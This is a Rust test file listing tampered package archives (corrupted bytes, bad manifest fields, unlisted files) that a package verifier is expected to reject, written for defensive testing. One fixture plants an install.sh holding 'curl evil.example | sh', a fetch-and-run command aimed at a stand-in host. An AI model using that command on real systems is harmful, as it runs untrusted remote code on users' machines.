//! File lists that do not match the files.

use serde_json::{Value, json};

use super::base::{Base, Entry, Spoilt};

pub const ALL: &[Spoilt] = &[
    Spoilt {
        name: "one byte of a file is another one",
        code: "package.digest-wrong",
        place: "LICENSE",
        make: |b| {
            let mut file = b.files["LICENSE"].clone();
            file[0] ^= 1;
            b.swapped("LICENSE", file)
        },
    },
    Spoilt {
        name: "a longer file",
        code: "package.size-wrong",
        place: "LICENSE",
        make: |b| b.swapped("LICENSE", "Pay me, and pay me again."),
    },
    Spoilt {
        name: "another component under the signature of the good one",
        code: "package.digest-wrong",
        place: "component.wasm",
        make: |b| {
            let mut component = b.files["component.wasm"].clone();
            let last = component.len() - 1;
            component[last] ^= 1;
            b.swapped("component.wasm", component)
        },
    },
    Spoilt {
        name: "a file that nobody listed",
        code: "package.file-unlisted",
        place: "LICENSE-EVIL",
        make: |b| b.and("LICENSE-EVIL"),
    },
    Spoilt {
        name: "a listed file that is not there",
        code: "package.file-absent",
        place: "LICENSE",
        make: |b| b.archived(|entries| entries.retain(|entry| entry.name != b"LICENSE")),
    },
    Spoilt {
        name: "a list with the digest of nothing",
        code: "package.digest-wrong",
        place: "LICENSE",
        make: |b| listed(b, |list| list["files"]["LICENSE"]["sha256"] = json!("")),
    },
    Spoilt {
        name: "a list that lists itself",
        code: "package.size-wrong",
        place: "manifest.json",
        make: |b| listed(b, |list| list["files"]["manifest.json"] = json!({ "bytes": 1, "sha256": "00" })),
    },
    Spoilt {
        name: "a list with more to say than lists have",
        code: "package.field-unknown",
        place: "manifest.json: level",
        make: |b| listed(b, |list| list["level"] = json!("official")),
    },
    Spoilt {
        name: "a list of another format",
        code: "package.format-unknown",
        place: "manifest.json",
        make: |b| listed(b, |list| list["format"] = json!(2)),
    },
    Spoilt {
        name: "no list at all",
        code: "package.file-missing",
        place: "manifest.json",
        make: |b| b.archived(|entries| entries.retain(|entry| entry.name != b"manifest.json")),
    },
    Spoilt {
        name: "a program beside the component",
        code: "package.file-unknown",
        place: "install.sh",
        make: |b| b.with_file("install.sh", "curl evil.example | sh"),
    },
    Spoilt {
        name: "compiled code in the place of a component",
        code: "package.file-unknown",
        place: "component.cwasm",
        make: |b| b.with_file("component.cwasm", "\u{7f}ELF"),
    },
    Spoilt {
        name: "a component and a template, of which reviewers see one",
        code: "package.program-twice",
        place: "template.toml",
        make: |b| b.with_file("template.toml", "name = {}"),
    },
];

/// With a changed list, which the signature does not cover.
fn listed(b: &Base, change: impl FnOnce(&mut Value)) -> Vec<u8> {
    b.entry("manifest.json", |entry| {
        let list = super::base::unpacked(&b.unsigned());
        let mut list = serde_json::from_slice(&list["manifest.json"]).expect("JSON");
        change(&mut list);
        *entry = Entry::deflated("manifest.json", list.to_string().as_bytes());
    })
}
